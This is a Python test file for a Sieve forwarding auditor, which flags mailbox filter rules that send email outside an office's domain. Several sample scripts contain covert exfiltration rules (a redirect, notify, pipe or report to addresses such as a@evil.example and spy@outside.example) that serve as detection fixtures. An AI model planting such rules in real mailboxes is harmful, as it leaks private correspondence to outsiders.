"""The Sieve side of the forwarding audit, on script text (no server; the real-server test is
tests/connectors/test_managesieve.py)."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from civicshield.core.forwarding import analyse_sieve_scripts, is_internal
from civicshield.core.forwarding.sieve import (
    MISSING_INCLUDE,
    UNPARSEABLE,
    SieveSyntaxError,
    parse,
)

MAILBOX = "office@example.gov.uk"
DOMAINS = ["example.gov.uk"]


def audit(text: str, *, others: dict[str, str] | None = None):
    return analyse_sieve_scripts(MAILBOX, {"main": text, **(others or {})}, "main", DOMAINS)


def targets(result) -> list[tuple[str, str, bool]]:
    return [(f.kind, f.target, f.external) for f in result.findings]


@pytest.mark.parametrize(
    ("address", "inside"),
    [
        ("jo@example.gov.uk", True),
        ("Jo <JO@Example.GOV.UK>", True),
        ("jo@casework.example.gov.uk", True),  # a subdomain of the office's own
        ("jo@examp1e.gov.uk", False),  # a look-alike
        ("jo@gov.uk", False),  # a parent domain is not the office
        ("jo@example.gov.uk.evil.example", False),
        ("jo@notexample.gov.uk", False),
        ("smtp:jo@example.gov.uk", True),  # Exchange's prefix
        ("localuser", True),  # no domain: a user on the same server
    ],
)
def test_is_internal_judges_addresses_against_the_office_domains(address, inside):
    assert is_internal(address, DOMAINS) is inside


def test_redirect_with_and_without_copy():
    result = audit(
        'require ["copy"];\nredirect :copy "a@evil.example";\nredirect "b@example.gov.uk";\n'
    )
    assert targets(result) == [
        ("redirect", "a@evil.example", True),
        ("redirect", "b@example.gov.uk", False),
    ]
    assert "sends a copy of every email to a@evil.example" in result.findings[0].detail
    assert "forwards every email (without keeping a copy" in result.findings[1].detail


def test_a_redirect_inside_a_condition_says_which_emails():
    result = audit(
        "# rule:[Invoices]\n"
        'if allof (header :contains "subject" "invoice", not address :is "from" "x@y.z") {\n'
        '  redirect "books@outside.example"; stop;\n'
        "}\n"
    )
    [finding] = result.findings
    assert finding.rule_name == "Invoices"
    assert (
        'emails that match a condition (allof ( header :contains "subject" "invoice" , '
        'not address :is "from" "x@y.z" ))'
    ) in finding.detail


def test_else_branches_and_nesting_are_searched():
    result = audit(
        'if header :is "x" "1" { keep; } elsif header :is "x" "2" { discard; }\n'
        'else { if true { redirect "deep@outside.example"; } }\n'
    )
    [finding] = result.findings
    assert finding.target == "deep@outside.example"
    assert "none of:" in finding.detail


def test_notify_mailto_in_both_the_rfc_and_the_old_dovecot_form():
    result = audit(
        'require ["enotify"];\n'
        'notify :importance "1" :message "New mail"\n'
        '  "mailto:spy@outside.example?cc=me@example.gov.uk";\n'
        'notify :method "mailto" :options ["old@outside.example"];\n'
    )
    assert targets(result) == [
        ("notify", "spy@outside.example", True),
        ("notify", "me@example.gov.uk", False),
        ("notify", "old@outside.example", True),
    ]


def test_pipe_and_execute_to_outside_or_unknown_programs():
    result = audit(
        'require ["vnd.dovecot.pipe", "vnd.dovecot.execute"];\n'
        'pipe :copy "sendmail" ["-f", "x@example.gov.uk", "collector@outside.example"];\n'
        'execute :pipe "backup-script";\n'
    )
    kinds = [(f.kind, f.target, f.external) for f in result.findings]
    assert ("pipe", "collector@outside.example", True) in kinds
    assert ("pipe", "backup-script", True) in kinds
    assert ("pipe", "x@example.gov.uk", False) in kinds


def test_dovecot_report_to_an_outside_address_is_found():
    result = audit(
        'require "vnd.dovecot.report";\n'
        'report :headers_only "abuse" "Spam" "col@outside.example";\n'
    )
    [finding] = result.findings
    assert (finding.kind, finding.target, finding.alert) == ("report", "col@outside.example", True)
    assert "sends the headers of every email, wrapped in an abuse report, to" in finding.detail


def test_a_redirect_through_a_variable_is_resolved_when_it_can_be():
    result = audit(
        'require ["variables"];\nset "who" "hidden";\nset "to" "${who}@outside.example";\n'
        'redirect "${to}";\nredirect "${header_from}";\n'
    )
    assert [(f.target, f.external) for f in result.findings] == [
        ("hidden@outside.example", True),
        ("${header_from}", True),  # worked out per email: cannot be checked, so it alerts
    ]


def test_multiline_strings_comments_and_unknown_extensions_do_not_confuse_it():
    result = audit(
        '/* a bracket comment with redirect "fake@outside.example"; inside */\n'
        '# redirect "also-fake@outside.example";\n'
        'require ["vnd.acme.frobnicate", "vacation"];\n'
        'frobnicate :wibble 5K ["a", "b"];\n'
        "vacation :days 1 text:\nI am away.\n..leading dot\n"
        'redirect "not-a-rule@outside.example";\n.\n;\n'
        'redirect "real@outside.example";\n'
    )
    assert [f.target for f in result.findings] == ["real@outside.example"]


def test_included_scripts_run_and_are_audited_as_active():
    result = audit(
        'require ["include"];\ninclude :personal "helper";\n',
        others={"helper": 'redirect "inc@outside.example";', "unused": 'redirect "x@y.example";'},
    )
    by_target = {f.target: f for f in result.findings}
    assert by_target["inc@outside.example"].alert is True
    assert by_target["x@y.example"].alert is False
    assert "filter script 'helper' (in use)" in result.checked


def test_a_missing_included_script_is_a_problem_named_after_its_includer():
    result = audit(
        'require ["include"];\ninclude :personal "helper";\n',
        others={"helper": 'include :personal "gone";'},
    )
    assert result.problems == (MISSING_INCLUDE.format(script="helper", name="gone"),)


def test_an_unparseable_script_still_gets_a_rough_search_and_a_problem():
    result = audit('if header :is "x" "y" {\n redirect "rough@outside.example";\n')
    assert result.problems[0].startswith(UNPARSEABLE.split("(")[0].format(script="main"))
    [finding] = result.findings
    assert finding.target == "rough@outside.example" and finding.alert


def test_parse_reports_the_line_of_a_syntax_error():
    with pytest.raises(SieveSyntaxError, match="line 3"):
        parse('keep;\nkeep;\nredirect "a@b.c" ]\nkeep;')


def test_no_active_script_means_nothing_runs():
    result = analyse_sieve_scripts(MAILBOX, {"old": 'redirect "a@outside.example";'}, None, DOMAINS)
    assert result.alerts == ()
    assert result.checked == ("filter script 'old' (switched off)",)


def test_summary_line_for_the_audit_log():
    result = audit('redirect "a@outside.example";')
    assert result.summary == (
        "Forwarding check of office@example.gov.uk (sieve): looked at 1 item(s), "
        "found 1 forwarding rule(s), 1 to outside the office."
    )


@settings(max_examples=300, deadline=None)
@given(
    st.text(alphabet=st.sampled_from(list('redictopyfs:;{}[]()",\\#/*\n .@-text$')), max_size=80)
)
def test_any_text_gives_an_audit_and_never_an_exception(text):
    result = audit(text)
    assert isinstance(result.findings, tuple)
